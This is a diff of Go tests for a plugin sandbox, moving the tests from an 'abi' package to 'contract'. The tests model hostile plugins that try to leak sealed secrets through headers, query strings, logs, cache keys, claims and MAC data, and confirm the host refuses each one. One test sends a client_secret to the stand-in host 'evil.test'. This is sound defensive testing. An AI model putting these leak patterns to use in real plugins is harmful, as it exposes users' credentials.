@@ -9,6 +9,7 @@ import (
 
 	"github.com/keywright/keywright/abi"
 	"github.com/keywright/keywright/host"
+	"github.com/keywright/keywright/internal/contract"
 )
 
 // Plugins that fail, or that try what they may not do: threats.md "Sandbox" and "Secrets", specification.md "the plugin
@@ -21,9 +22,9 @@ var misused = config{
 	"url": tokenURL, "text": "plain {{ get_secret('text') }}", "claims": config{"sub": "{{ get_secret('text') }}"},
 }
 
-func misusing(do func(abi.Env) (string, error)) *guest {
+func misusing(do func(contract.Env) (string, error)) *guest {
 	g := &guest{authenticate: do}
-	g.about.Uses = abi.Groups
+	g.about.Uses = contract.Groups
 	g.about.Fields = []abi.Field{
 		sealedField("to_header", abi.SinkHeader), sealedField("to_query", abi.SinkQuery), sealedField("to_token", abi.SinkToken),
 		sealedField("to_claim", abi.SinkClaim), sealedField("nowhere"), sealedField("hmac_key", abi.SinkSign),
@@ -38,7 +39,7 @@ func misusing(do func(abi.Env) (string, error)) *guest {
 
 // misusedWorld returns a world whose only plugin is a guest that runs do, and the secrets of misused. It leaves out the
 // built-in plugins, which take time to compile.
-func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...string) *world {
+func misusedWorld(t *testing.T, do func(contract.Env) (string, error), grants ...string) *world {
 	t.Helper()
 	w := newWorld(t, withoutBuiltIns, withGuest(misusing(do), grants...))
 	for _, name := range []string{"s", "k", "text"} {
@@ -50,7 +51,7 @@ func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...stri
 // misuse is a test case: what a guest does, and how the request must fail.
 type misuse struct {
 	name  string
-	do    func(env abi.Env) (string, error)
+	do    func(env contract.Env) (string, error)
 	stage host.Stage
 	words string
 }
@@ -72,17 +73,17 @@ func refuseAll(t *testing.T, cases []misuse, grants ...string) {
 }
 
 // fixedOutput returns a guest that returns a fixed mutation.
-func fixedOutput(output string) func(abi.Env) (string, error) {
-	return func(abi.Env) (string, error) { return output, nil }
+func fixedOutput(output string) func(contract.Env) (string, error) {
+	return func(contract.Env) (string, error) { return output, nil }
 }
 
-func tokenRequest(env abi.Env, url string, form ...abi.Pair) (string, error) {
+func tokenRequest(env contract.Env, url string, form ...abi.Pair) (string, error) {
 	value(env, "url") // allows a token request to this URL
-	env.TokenRequest([]byte(marshal(abi.TokenRequest{URL: url, Form: form})))
+	env.TokenRequest([]byte(marshal(contract.TokenRequest{URL: url, Form: form})))
 	return header("X-Key", value(env, "to_header")), nil
 }
 
-func sign(env abi.Env, r abi.JWTRequest[map[string]any]) string {
+func sign(env contract.Env, r contract.JWTRequest[map[string]any]) string {
 	if r.Claims == nil {
 		r.Claims = map[string]any{}
 	}
@@ -90,11 +91,11 @@ func sign(env abi.Env, r abi.JWTRequest[map[string]any]) string {
 }
 
 func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
-	jwt := func(env abi.Env, target string, claims map[string]any) string {
-		return sign(env, abi.JWTRequest[map[string]any]{Key: "key", For: target, Claims: claims})
+	jwt := func(env contract.Env, target string, claims map[string]any) string {
+		return sign(env, contract.JWTRequest[map[string]any]{Key: "key", For: target, Claims: claims})
 	}
-	put := func(field string, place func(string, string) string) func(abi.Env) (string, error) {
-		return func(env abi.Env) (string, error) { return place("X-Key", value(env, field)), nil }
+	put := func(field string, place func(string, string) string) func(contract.Env) (string, error) {
+		return func(env contract.Env) (string, error) { return place("X-Key", value(env, field)), nil }
 	}
 	var cases []misuse
 	for _, field := range []string{"to_query", "to_token", "to_claim", "nowhere", "key", "text", "url"} {
@@ -107,52 +108,58 @@ func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
 		cases = append(cases, misuse{field + " into the query", put(field, query), host.StagePlugin, "do not reach"})
 	}
 	for _, field := range []string{"to_header", "to_query", "to_claim", "nowhere", "key", "text"} {
-		cases = append(cases, misuse{field + " to the token endpoint", func(env abi.Env) (string, error) {
+		cases = append(cases, misuse{field + " to the token endpoint", func(env contract.Env) (string, error) {
 			return tokenRequest(env, tokenURL, abi.Pair{Name: "f", Value: value(env, field)})
 		}, host.StagePlugin, "do not reach"})
 	}
 	for _, field := range []string{"to_header", "to_token", "nowhere", "key", "text"} {
-		cases = append(cases, misuse{field + " into a claim", func(env abi.Env) (string, error) {
-			return header("X-Key", jwt(env, abi.ForHeader, map[string]any{"x": map[string]any{"y": []any{value(env, field)}}})), nil
+		cases = append(cases, misuse{field + " into a claim", func(env contract.Env) (string, error) {
+			return header("X-Key", jwt(env, contract.ForHeader, map[string]any{"x": map[string]any{"y": []any{value(env, field)}}})), nil
 		}, host.StagePlugin, "do not reach"})
 	}
 	cases = append(cases, []misuse{
-		{"an assertion to the API", func(env abi.Env) (string, error) { return header("X-Key", jwt(env, abi.ForToken, nil)), nil }, host.StagePlugin, "do not reach"},
-		{"a JWT for the API to the token endpoint", func(env abi.Env) (string, error) {
-			return tokenRequest(env, tokenURL, abi.Pair{Name: "assertion", Value: jwt(env, abi.ForHeader, nil)})
+		{"an assertion to the API", func(env contract.Env) (string, error) { return header("X-Key", jwt(env, contract.ForToken, nil)), nil }, host.StagePlugin, "do not reach"},
+		{"a JWT for the API to the token endpoint", func(env contract.Env) (string, error) {
+			return tokenRequest(env, tokenURL, abi.Pair{Name: "assertion", Value: jwt(env, contract.ForHeader, nil)})
 		}, host.StagePlugin, "do not reach"},
-		{"into the name of a claim", func(env abi.Env) (string, error) {
-			return header("X-Key", jwt(env, abi.ForHeader, map[string]any{value(env, "to_claim"): 1})), nil
+		{"into the name of a claim", func(env contract.Env) (string, error) {
+			return header("X-Key", jwt(env, contract.ForHeader, map[string]any{value(env, "to_claim"): 1})), nil
 		}, host.StagePlugin, "only plain text"},
-		{"into a log line", func(env abi.Env) (string, error) { env.Log(abi.LevelInfo, value(env, "to_header")); return "", nil }, host.StagePlugin, "a log line"},
-		{"into an error", func(env abi.Env) (string, error) { return "", errors.New("x " + value(env, "to_header")) }, host.StagePlugin, "was dropped"},
-		{"into a cache key", func(env abi.Env) (string, error) { env.CacheGet(value(env, "to_header")); return "", nil }, host.StagePlugin, "a cache key"},
-		{"into a cache key that is set", func(env abi.Env) (string, error) { env.CacheSet("k"+value(env, "to_header"), "v", 9); return "", nil }, host.StagePlugin, "a cache key"},
-		{"into data to be signed", func(env abi.Env) (string, error) {
-			return header("X-Key", env.MAC(abi.MACSHA256, value(env, "hmac_key"), value(env, "to_header"))), nil
+		{"into a log line", func(env contract.Env) (string, error) {
+			env.Log(contract.LevelInfo, value(env, "to_header"))
+			return "", nil
+		}, host.StagePlugin, "a log line"},
+		{"into an error", func(env contract.Env) (string, error) { return "", errors.New("x " + value(env, "to_header")) }, host.StagePlugin, "was dropped"},
+		{"into a cache key", func(env contract.Env) (string, error) { env.CacheGet(value(env, "to_header")); return "", nil }, host.StagePlugin, "a cache key"},
+		{"into a cache key that is set", func(env contract.Env) (string, error) {
+			env.CacheSet("k"+value(env, "to_header"), "v", 9)
+			return "", nil
+		}, host.StagePlugin, "a cache key"},
+		{"into data to be signed", func(env contract.Env) (string, error) {
+			return header("X-Key", env.MAC(contract.MACSHA256, value(env, "hmac_key"), value(env, "to_header"))), nil
 		}, host.StagePlugin, "the data of mac"},
 		// An HMAC of any data would be a JWT, though the key is for nothing but requests, or the other way round (threats.md 105).
-		{"a key field as the key of a MAC", func(env abi.Env) (string, error) {
-			return header("X-Key", env.MAC(abi.MACSHA256, value(env, "key"), "data")), nil
+		{"a key field as the key of a MAC", func(env contract.Env) (string, error) {
+			return header("X-Key", env.MAC(contract.MACSHA256, value(env, "key"), "data")), nil
 		}, host.StagePlugin, "signs with sign_sealed"},
-		{"a part of the key of a MAC", func(env abi.Env) (string, error) {
-			return header("X-Key", env.MAC(abi.MACSHA256, env.Encode(abi.FormatHex, value(env, "key")), "data")), nil
+		{"a part of the key of a MAC", func(env contract.Env) (string, error) {
+			return header("X-Key", env.MAC(contract.MACSHA256, env.Encode(contract.FormatHex, value(env, "key")), "data")), nil
 		}, host.StagePlugin, "signs with sign_sealed"},
-		{"as a key", func(env abi.Env) (string, error) {
-			return header("X-Key", env.MAC(abi.MACSHA256, value(env, "to_header"), "data")), nil
+		{"as a key", func(env contract.Env) (string, error) {
+			return header("X-Key", env.MAC(contract.MACSHA256, value(env, "to_header"), "data")), nil
 		}, host.StagePlugin, "the key of mac"},
-		{"a mixture has the sinks that all share", func(env abi.Env) (string, error) {
-			return header("X-Key", env.Encode(abi.FormatBase64, value(env, "to_header")+value(env, "to_query"))), nil
+		{"a mixture has the sinks that all share", func(env contract.Env) (string, error) {
+			return header("X-Key", env.Encode(contract.FormatBase64, value(env, "to_header")+value(env, "to_query"))), nil
 		}, host.StagePlugin, "do not reach"},
-		{"encoded, it keeps its sinks", func(env abi.Env) (string, error) {
-			return header("X-Key", env.Encode(abi.FormatHex, value(env, "to_token"))), nil
+		{"encoded, it keeps its sinks", func(env contract.Env) (string, error) {
+			return header("X-Key", env.Encode(contract.FormatHex, value(env, "to_token"))), nil
 		}, host.StagePlugin, "do not reach"},
-		{"through the cache, it keeps its sinks", func(env abi.Env) (string, error) {
+		{"through the cache, it keeps its sinks", func(env contract.Env) (string, error) {
 			env.CacheSet("k", value(env, "to_token"), 60)
 			cached, _ := env.CacheGet("k")
 			return header("X-Key", cached), nil
 		}, host.StagePlugin, "do not reach"},
-		{"by the name of its secret, it has the sinks of its fields", func(env abi.Env) (string, error) {
+		{"by the name of its secret, it has the sinks of its fields", func(env contract.Env) (string, error) {
 			return header("X-Key", env.SecretGet("k")), nil
 		}, host.StagePlugin, "do not reach"},
 	}...)
@@ -164,24 +171,24 @@ func TestNoCredential_threats_15b(t *testing.T) {
 	refuseAll(t, []misuse{
 		{"forgotten", fixedOutput(`{}`), host.StageMutation, "no credential"},
 		{"a header without it", fixedOutput(header("X-Key", "v")), host.StageMutation, "no credential"},
-		{"encoded, and left", func(env abi.Env) (string, error) {
-			env.Encode(abi.FormatBase64, value(env, "to_header"))
+		{"encoded, and left", func(env contract.Env) (string, error) {
+			env.Encode(contract.FormatBase64, value(env, "to_header"))
 			return header("X-Key", "v"), nil
 		}, host.StageMutation, "no credential"},
-		{"a reference that is encoded", func(env abi.Env) (string, error) {
+		{"a reference that is encoded", func(env contract.Env) (string, error) {
 			return header("X-Key", fmt.Sprintf("%x", value(env, "to_header"))), nil
 		}, host.StageMutation, "no credential"},
-		{"a reference of nothing", fixedOutput(header("X-Key", abi.SealedPrefix+strings.Repeat("a", abi.SealedLength))), host.StagePlugin, "none of this call"},
-		{"a reference that is cut", func(env abi.Env) (string, error) {
+		{"a reference of nothing", fixedOutput(header("X-Key", contract.SealedPrefix+strings.Repeat("a", contract.SealedLength))), host.StagePlugin, "none of this call"},
+		{"a reference that is cut", func(env contract.Env) (string, error) {
 			return header("X-Key", value(env, "to_header")[:20]), nil
 		}, host.StageMutation, "no credential"},
-		{"two headers of one name", func(env abi.Env) (string, error) {
+		{"two headers of one name", func(env contract.Env) (string, error) {
 			v := value(env, "to_header")
-			return marshal(abi.Mutation{Headers: []abi.Pair{{Name: "X-Key", Value: v}, {Name: "x-key", Value: v}}}), nil
+			return marshal(contract.Mutation{Headers: []abi.Pair{{Name: "X-Key", Value: v}, {Name: "x-key", Value: v}}}), nil
 		}, host.StageMutation, "twice"},
 	})
-	w := misusedWorld(t, func(env abi.Env) (string, error) {
-		env.TokenRequest([]byte(marshal(abi.TokenRequest{
+	w := misusedWorld(t, func(env contract.Env) (string, error) {
+		env.TokenRequest([]byte(marshal(contract.TokenRequest{
 			URL: value(env, "url"), Headers: []abi.Pair{{Name: "X-Key", Value: value(env, "to_token")}},
 		})))
 		return header("X-Key", "v"), nil
@@ -190,7 +197,7 @@ func TestNoCredential_threats_15b(t *testing.T) {
 	if w.login.Count() != 1 {
 		t.Error("what was put to use was none of the token endpoint")
 	}
-	w = misusedWorld(t, func(env abi.Env) (string, error) {
+	w = misusedWorld(t, func(env contract.Env) (string, error) {
 		env.TimeNow() // so that the mutation is not used again
 		if stale == "" {
 			stale = value(env, "to_header")
@@ -204,11 +211,11 @@ func TestNoCredential_threats_15b(t *testing.T) {
 
 func TestRequestDataStaysWithItsRequest_threats_15c(t *testing.T) {
 	refuseAll(t, []misuse{
-		{"to another caller", func(env abi.Env) (string, error) {
+		{"to another caller", func(env contract.Env) (string, error) {
 			env.CacheSet("k", string(env.Input()), 60)
 			return header("X-Key", value(env, "to_header")), nil
 		}, host.StagePlugin, "after the request was read"},
-		{"to the token endpoint", func(env abi.Env) (string, error) {
+		{"to the token endpoint", func(env contract.Env) (string, error) {
 			return tokenRequest(env, tokenURL, abi.Pair{Name: "x", Value: string(env.Input())})
 		}, host.StagePlugin, "after the request was read"},
 	})
@@ -216,7 +223,7 @@ func TestRequestDataStaysWithItsRequest_threats_15c(t *testing.T) {
 
 func TestInputHasNoCredentials(t *testing.T) {
 	seen := ""
-	w := misusedWorld(t, func(env abi.Env) (string, error) {
+	w := misusedWorld(t, func(env contract.Env) (string, error) {
 		seen = string(env.Input())
 		return header("X-Key", value(env, "to_header")), nil
 	})
@@ -255,7 +262,7 @@ func TestInputHost(t *testing.T) {
 		{"https://api.test/a", "bücher.test", `"https://xn--bcher-kva.test/a"`},
 	} {
 		seen := ""
-		w := misusedWorld(t, func(env abi.Env) (string, error) {
+		w := misusedWorld(t, func(env contract.Env) (string, error) {
 			seen = string(env.Input())
 			return header("X-Key", value(env, "to_header")), nil
 		})
@@ -278,10 +285,10 @@ func TestInputHost(t *testing.T) {
 
 func TestForeignSecrets_threats_16(t *testing.T) {
 	refuseAll(t, []misuse{
-		{"a secret of another connector", func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("other")), nil }, host.StagePlugin, "does not name"},
-		{"no name", func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("")), nil }, host.StagePlugin, "does not name"},
+		{"a secret of another connector", func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("other")), nil }, host.StagePlugin, "does not name"},
+		{"no name", func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("")), nil }, host.StagePlugin, "does not name"},
 	})
-	named := func(env abi.Env) (string, error) { return header("X-Key", env.SecretGet("s")), nil }
+	named := func(env contract.Env) (string, error) { return header("X-Key", env.SecretGet("s")), nil }
 	g := misusing(named)
 	g.about.Uses = nil
 	w := newWorld(t, withGuest(g))
@@ -296,8 +303,8 @@ func TestForeignSecrets_threats_16(t *testing.T) {
 }
 
 func TestSecretsSentElsewhere_threats_18(t *testing.T) {
-	elsewhere := func(url string) func(abi.Env) (string, error) {
-		return func(env abi.Env) (string, error) {
+	elsewhere := func(url string) func(contract.Env) (string, error) {
+		return func(env contract.Env) (string, error) {
 			return tokenRequest(env, url, abi.Pair{Name: "client_secret", Value: value(env, "to_token")})
 		}
 	}
@@ -305,10 +312,10 @@ func TestSecretsSentElsewhere_threats_18(t *testing.T) {
 	for _, url := range []string{"https://evil.test/", tokenURL + "/x", tokenURL + "?a", "https://login.test", "", "HTTPS://login.test/token", apiURL} {
 		cases = append(cases, misuse{"another token URL: " + url, elsewhere(url), host.StagePlugin, "only go to a URL"})
 	}
-	refuseAll(t, append(cases, misuse{"a secret in the token URL's query", func(env abi.Env) (string, error) {
+	refuseAll(t, append(cases, misuse{"a secret in the token URL's query", func(env contract.Env) (string, error) {
 		return tokenRequest(env, tokenURL+"?x="+value(env, "to_token"))
 	}, host.StagePlugin, "only go to a URL"}))
-	w := misusedWorld(t, func(env abi.Env) (string, error) { return tokenRequest(env, value(env, "text")) })
+	w := misusedWorld(t, func(env contract.Env) (string, error) { return tokenRequest(env, value(env, "text")) })
 	w.refuse(w.connect("custom", with(misused, "text", "https://evil.test/")), get(t.Context()), host.StagePlugin, "only go to a URL")
 	if w.login.Count() != 0 || w.api.Count() != 0 {
 		t.Error("a field that is text for another purpose is taken for a token URL")
@@ -316,29 +323,29 @@ func TestSecretsSentElsewhere_threats_18(t *testing.T) {
 }
 
 func TestSigningOracle_threats_11(t *testing.T) {
-	ask := func(r abi.JWTRequest[map[string]any]) func(abi.Env) (string, error) {
-		return func(env abi.Env) (string, error) { return header("X-Key", sign(env, r)), nil }
+	ask := func(r contract.JWTRequest[map[string]any]) func(contract.Env) (string, error) {
+		return func(env contract.Env) (string, error) { return header("X-Key", sign(env, r)), nil }
 	}
-	type jwt = abi.JWTRequest[map[string]any]
+	type jwt = contract.JWTRequest[map[string]any]
 	refuseAll(t, []misuse{
-		{"a field that is no key", ask(jwt{Key: "to_header", For: abi.ForHeader}), host.StagePlugin, "kind key"},
-		{"a field that is none", ask(jwt{Key: "other", For: abi.ForHeader}), host.StagePlugin, "kind key"},
-		{"another algorithm", ask(jwt{Key: "key", For: abi.ForHeader, Header: map[string]any{"alg": "none"}}), host.StageSign, `"alg" may not be set`},
+		{"a field that is no key", ask(jwt{Key: "to_header", For: contract.ForHeader}), host.StagePlugin, "kind key"},
+		{"a field that is none", ask(jwt{Key: "other", For: contract.ForHeader}), host.StagePlugin, "kind key"},
+		{"another algorithm", ask(jwt{Key: "key", For: contract.ForHeader, Header: map[string]any{"alg": "none"}}), host.StageSign, `"alg" may not be set`},
 		{"another place", ask(jwt{Key: "key", For: "log"}), host.StagePlugin, "neither"},
-		{"nonsense", func(env abi.Env) (string, error) { return header("X-Key", env.JWTSign([]byte(`{"key":1}`))), nil }, host.StagePlugin, "jwt_sign"},
-		{"two members of one name: threats.md 39", func(env abi.Env) (string, error) {
+		{"nonsense", func(env contract.Env) (string, error) { return header("X-Key", env.JWTSign([]byte(`{"key":1}`))), nil }, host.StagePlugin, "jwt_sign"},
+		{"two members of one name: threats.md 39", func(env contract.Env) (string, error) {
 			return header("X-Key", env.JWTSign([]byte(`{"key":"key","for":"header","claims":{"sub":"a","sub":"b"}}`))), nil
 		}, host.StagePlugin, "two members"},
-		{"raw signatures without the grant", func(env abi.Env) (string, error) { return header("X-Key", string(env.Sign("key", "data"))), nil }, host.StagePlugin, `"sign_raw"`},
-		{"reveal without the grant", func(env abi.Env) (string, error) {
+		{"raw signatures without the grant", func(env contract.Env) (string, error) { return header("X-Key", string(env.Sign("key", "data"))), nil }, host.StagePlugin, `"sign_raw"`},
+		{"reveal without the grant", func(env contract.Env) (string, error) {
 			return header("X-Key", string(env.Reveal(value(env, "to_header")))), nil
 		}, host.StagePlugin, `"reveal"`},
 	})
 }
 
 func TestGrants_threats_11(t *testing.T) {
-	w := misusedWorld(t, func(env abi.Env) (string, error) {
-		env.Log(abi.LevelInfo, "found "+string(env.Reveal(value(env, "nowhere"))))
+	w := misusedWorld(t, func(env contract.Env) (string, error) {
+		env.Log(contract.LevelInfo, "found "+string(env.Reveal(value(env, "nowhere"))))
 		return header("X-Key", fmt.Sprintf("%x", env.Sign("key", "data"))), nil
 	}, abi.GrantReveal, abi.GrantSignRaw)
 	if got := w.get(w.connect("custom", misused)).Header.Get("X-Key"); len(got) != 64 {
@@ -347,7 +354,7 @@ func TestGrants_threats_11(t *testing.T) {
 	if w.logged("found <sealed>") != 1 {
 		t.Errorf("what was revealed is not scrubbed from the log: %s", w.log.String())
 	}
-	refuseAll(t, []misuse{{"an error with what was revealed", func(env abi.Env) (string, error) {
+	refuseAll(t, []misuse{{"an error with what was revealed", func(env contract.Env) (string, error) {
 		return "", fmt.Errorf("found %s", env.Reveal(value(env, "nowhere")))
 	}, host.StagePlugin, "found <sealed>"}}, abi.GrantReveal)
 }
@@ -357,12 +364,12 @@ func TestDefaultOfASealedField(t *testing.T) {
 	field := sealedField("to_header", abi.SinkHeader)
 	field.Default = "anonymous-access"
 	seen := ""
-	g := &guest{about: abi.Description{Fields: []abi.Field{field}}, authenticate: func(env abi.Env) (string, error) {
+	g := &guest{about: abi.Description{Fields: []abi.Field{field}}, authenticate: func(env contract.Env) (string, error) {
 		seen = value(env, "to_header")
 		return header("X-Key", seen), nil
 	}}
 	w := newWorld(t, withoutBuiltIns, withGuest(g))
-	if got := w.get(w.connect("custom", nil)).Header.Get("X-Key"); got != field.Default || !strings.HasPrefix(seen, abi.SealedPrefix) {
+	if got := w.get(w.connect("custom", nil)).Header.Get("X-Key"); got != field.Default || !strings.HasPrefix(seen, contract.SealedPrefix) {
 		t.Errorf("the plugin sees %q, and the API %q", seen, got)
 	}
 }
